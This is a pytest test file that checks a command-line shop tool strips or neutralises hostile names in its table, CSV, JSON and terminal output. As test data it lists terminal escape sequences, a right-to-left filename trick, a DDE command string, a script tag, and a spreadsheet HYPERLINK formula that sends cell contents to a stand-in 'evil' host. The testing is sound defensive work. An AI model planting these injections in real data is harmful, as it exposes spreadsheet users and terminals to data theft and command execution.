"""Names from cameras, files and people that want to be more than text, through every way out."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from demeter_cli import output
from pipeline.printable import harmless, one_line, printable
from tests.cli.shop import Shop

HOSTILE = {
    "clears the screen": "\x1b[2J\x1b[H",
    "sets the title": "\x1b]0;owned\x07",
    "an 8-bit escape": "\x9b31mred",
    "goes back over the line": "good\rbad ",
    "erases with backspaces": "bad\x08\x08\x08good",
    "turns the direction": "invoice\u202egpj.exe",
    "a separator of lines": "one\u2028two",
    "a byte that is no UTF-8": "caf\udce9",
    "a formula": '=HYPERLINK("http://evil/?"&A1)',
    "a command": "@SUM(1)*cmd|' /C calc'!A0",
    "a wide formula": "＝1+1",
    "a formula after a tab": "\t=1+1",
    "markup": "[red]not red[/red]",
    "html": "<script>alert(1)</script>",
}  # fmt: skip
MIGHTY = set("\x1b\x9b\x07\x08\r\u202e\u2028")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_tables_and_sentences_show_it_and_do_not_obey(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.print_table([{"name": text}], {"name": "name"})
    output.say(f"place {text}")
    output.tell(f"place {text}")
    shown = "".join(capsys.readouterr())
    assert not MIGHTY & set(shown)
    assert "[red]" in shown or "[red]" not in text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_csv_keeps_it_and_no_spreadsheet_runs_it(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.print_csv([{"name": text}], ["name"])
    ((cell,),) = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
    assert cell[:1] not in set("=+-@\t\r＝＋－＠")
    assert cell.removeprefix("'") == text.encode("utf-8", "backslashreplace").decode()


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_json_keeps_it(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.print_json({"name": text})
    read = json.loads(capsys.readouterr().out.replace("\\udce9", "?").replace("\\xe9", "?"))["name"]
    assert read == text.replace("\udce9", "?")


def on_terminal(program: str) -> bytes:
    """What a program writes to a terminal."""
    ours, theirs = pty.openpty()
    subprocess.run([sys.executable, "-c", program], stdout=theirs, check=True)
    os.close(theirs)
    told = b""
    try:
        while part := os.read(ours, 4096):
            told += part
    except OSError:  # the end of a terminal
        pass
    os.close(ours)
    return told


def test_a_terminal_gets_no_escape_from_csv_or_json_either() -> None:
    told = on_terminal(
        "from demeter_cli import output;"
        r"output.print_csv([{'name': '\x1b[2J\x9b31m'}], ['name']);"
        r"output.print_json({'name': '\x9b31m\u202e'})"
    )
    assert b"name" in told
    assert b"\x1b" not in told
    assert "\x9b".encode() not in told
    assert "\u202e".encode() not in told


def test_words_of_people_stay_as_they_are() -> None:
    for text in ("ñandú – 1 234 plantas", "e\u0301", "👩\u200d🌾", "soft\u00adhyphen", "two\nlines"):
        assert harmless(text) == text
    assert one_line("two\nlines\there") == "two\\nlines\\there"
    assert printable(Path("two\nlines.jpg")) == "two\\nlines.jpg"


def test_a_place_with_an_evil_name_is_shown_and_not_obeyed(demo_url: str) -> None:
    shop = Shop(demo_url)
    with shop.database() as connection:
        connection.exec_driver_sql(
            "UPDATE products SET common_name = E'=cmd\\x1b[2J' WHERE sku = (SELECT min(sku) FROM products)"
        )
    table = shop.run("catalog", "list", "products")
    listed = shop.run("catalog", "list", "products", "--format", "csv")
    assert table.code == listed.code == 0
    assert "\x1b" not in table.out
    assert "'=cmd" in listed.out
